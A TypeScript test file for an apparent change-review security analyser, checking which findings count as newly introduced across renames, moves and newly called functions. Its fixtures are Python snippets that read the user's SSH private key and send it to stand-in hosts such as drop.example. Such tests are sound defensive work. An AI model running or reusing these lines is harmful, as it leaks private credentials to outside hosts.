import { describe, expect, it } from 'vitest';
import { DEFAULT_POLICY } from '../policy/policy.ts';
import { changeOf, type Files } from './change.fixture.ts';
import { examineUnit, type UnitAnswer } from './examine-unit.ts';
import { isBroughtIn, renamesOf } from './places.ts';

/** What becomes of the unit that a file is, between two sets of files. */
async function between(base: Files, head: Files, file: string, renamed: Files = {}): Promise<UnitAnswer> {
  const change = changeOf(base, head, renamed);
  for await (const { unit } of change.pieces()) {
    if (unit?.name !== file) continue;
    return examineUnit({
      name: unit.name,
      ...(await unit.load()),
      renamed: renamesOf(change.changes),
      isBroughtIn: isBroughtIn(file, change.changes),
      how: { policy: DEFAULT_POLICY, depth: 'standard' },
    });
  }
  throw new Error(`${file} is no unit of the change`);
}

function brought({ findings }: UnitAnswer): string[] {
  return findings.filter(({ introduced, severity }) => introduced && severity !== 'low').map(({ rule }) => rule);
}

function targets(entries: UnitAnswer['difference']['added'], kind: string): string[] {
  return entries.filter((entry) => entry.kind === kind).map(({ target, line }) => `${target} ${line}`);
}

const READ = "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()";
const SEND = "urllib.request.urlopen('https://drop.example/u', key.encode())";
const STEALS = `import os, urllib.request\n\n${READ}\n${SEND}\n`;

describe('what was there before is not the author’s', () => {
  it('though its lines moved, others were added, and it is done to the same', async () => {
    const head = STEALS.replace('\n\n', '\n# more\nprint(1)\n\n\n');
    const answer = await between({ 'a.py': STEALS }, { 'a.py': head }, 'a.py');
    expect(answer.findings.length).toBeGreaterThan(2);
    expect(brought(answer)).toEqual([]);
    expect(answer).toMatchObject({ baseDecision: 'block', difference: { added: [], removed: [] } });
  });

  it('though its file has another name', async () => {
    const answer = await between({ 'a.py': STEALS }, { 'b.py': `${STEALS}\n# more\n` }, 'b.py', { 'a.py': 'b.py' });
    expect(answer.findings.length).toBeGreaterThan(2);
    expect(brought(answer)).toEqual([]);
  });

  it('though it stands in another file now, where it was seen done before and is seen done', async () => {
    const base = { 'main.py': `import os, urllib.request\n${READ}\n${SEND}\n`, 'out.py': '' };
    const head = {
      'main.py': 'import out\n',
      'out.py': `import os, urllib.request\n${READ}\n${SEND}\n`,
    };
    const answer = await between(base, head, 'main.py');
    expect(answer.findings.length).toBeGreaterThan(2);
    expect(brought(answer)).toEqual([]);
  });

  it('nor is what chance names', async () => {
    const makes = "import os, tempfile\nfd, name = tempfile.mkstemp()\nos.write(fd, b'x')\n";
    const { difference } = await between({ 'a.py': makes }, { 'a.py': `${makes}print(1)\n` }, 'a.py');
    expect(difference).toEqual({ added: [], removed: [] });
  });
});

describe('an old line does not hide what is new', () => {
  it('where it sends to somebody else, though the line itself is the same', async () => {
    const base = `import os, urllib.request\nWHERE = 'https://ours.example/u'\n${READ}\nurllib.request.urlopen(WHERE, key.encode())\n`;
    const answer = await between({ 'a.py': base }, { 'a.py': base.replace('ours', 'theirs') }, 'a.py');
    expect(brought(answer)).toContain('secret-sent');
    expect(targets(answer.difference.added, 'host')).toEqual(['theirs.example:443 4']);
    expect(targets(answer.difference.removed, 'host')).toEqual(['ours.example:443 4']);
  });

  it('where it lay in a function that nothing called, and stands at the top', async () => {
    const idle = `import os, urllib.request\n\ndef never(flag):\n    if flag == 'no such':\n        ${READ}\n        ${SEND}\n`;
    const head = `${idle}\nif os.environ.get('NEVER'):\n    ${READ}\n    ${SEND}\n`;
    expect(brought(await between({ 'a.py': idle }, { 'a.py': head }, 'a.py'))).toContain('secret-sent');
  });

  it('where the change newly calls the function it lies in', async () => {
    const idle = `import os, urllib.request\n\ndef report():\n    ${READ}\n    ${SEND}\n`;
    const head = `${idle}\nif os.path.exists('/never'):\n    report()\n`;
    const answer = await between({ 'a.py': idle }, { 'a.py': head }, 'a.py');
    expect(brought(answer)).toContain('secret-sent');
    expect(brought(await between({ 'a.py': idle }, { 'a.py': `${idle}\nprint(1)\n` }, 'a.py'))).toEqual([]);
  });

  it('where it is written a second time', async () => {
    const answer = await between({ 'a.py': STEALS }, { 'a.py': `${STEALS}${SEND}\n` }, 'a.py');
    const added = answer.findings.filter(({ introduced }) => introduced);
    expect(added.map(({ locations }) => locations[0]?.line)).toContain(5);
  });

  it('where its file came from the tests', async () => {
    const moved = { 'tests/a.py': 'src/a.py' };
    const answer = await between({ 'tests/a.py': STEALS }, { 'src/a.py': STEALS }, 'src/a.py', moved);
    expect(brought(answer)).toContain('secret-sent');
  });

  it('where the reading was there and the sending comes in another file', async () => {
    const base = { 'main.py': `import os\n${READ}\nprint(len(key))\n`, 'out.py': 'def send(text):\n    pass\n' };
    const head = {
      'main.py': `import os, out\n${READ}\nout.send(key)\n`,
      'out.py':
        "import urllib.request\n\ndef send(text):\n    urllib.request.urlopen('https://drop.example', text.encode())\n",
    };
    const answer = await between(base, head, 'main.py');
    expect(brought(answer)).toContain('secret-sent');
    expect(targets(answer.difference.added, 'host')).toEqual(['drop.example:443 4']);
  });
});

describe('a head that shows less than before', () => {
  const acts = "import subprocess\nsubprocess.run(['true'])\nopen('/tmp/out.txt', 'w').write('x')\n";

  it('because it ends early is told, with how it ended', async () => {
    const head = acts.replace('\n', '\nraise SystemExit(3)\n');
    const answer = await between({ 'a.py': acts }, { 'a.py': head }, 'a.py');
    expect(answer.lost).toMatch(/^\d places .* it ended with 3, before it ended with 0$/);
  });

  it('because something was taken out is not', async () => {
    const answer = await between({ 'a.py': acts }, { 'a.py': 'import subprocess\nsubprocess.run(["true"])\n' }, 'a.py');
    expect(answer.lost).toBeUndefined();
    expect(targets(answer.difference.removed, 'file')).toEqual(['/tmp/out.txt 3']);
  });
});

it('what a change adds is told with its line: hosts, files, commands, packages, variables, capabilities', async () => {
  const head = `import os
import requests_like_thing_unknown_here as x
os.environ.get('STAGE')
`;
  const more =
    "import ctypes, subprocess\nsubprocess.run(['git', 'log'])\nctypes.CDLL('libm.so.6')\nopen('/tmp/a.txt', 'w').write('x')\n";
  const first = await between({ 'a.py': '' }, { 'a.py': head }, 'a.py');
  expect(targets(first.difference.added, 'package')).toEqual(['requests_like_thing_unknown_here 2']);
  expect(targets(first.difference.added, 'environment')).toEqual(['STAGE 3']);
  const { difference } = await between({ 'a.py': 'print(1)\n' }, { 'a.py': more }, 'a.py');
  expect(targets(difference.added, 'command')).toEqual(['git log 2']);
  expect(targets(difference.added, 'file')).toEqual(expect.arrayContaining(['/tmp/a.txt 4']));
  expect(difference.added.map(({ capability }) => capability)).toContain('code.native');
  expect(difference.added.every(({ file, line }) => file === 'a.py' && line > 1)).toBe(true);
});

it('what is deleted is told as what it no longer does', async () => {
  const answer = await between({ 'a.py': STEALS, 'b.py': '' }, { 'b.py': '' }, 'a.py');
  expect(answer).toMatchObject({ findings: [], runs: 0, difference: { added: [] } });
  expect(targets(answer.difference.removed, 'host')).toEqual(['drop.example:443 4']);
});
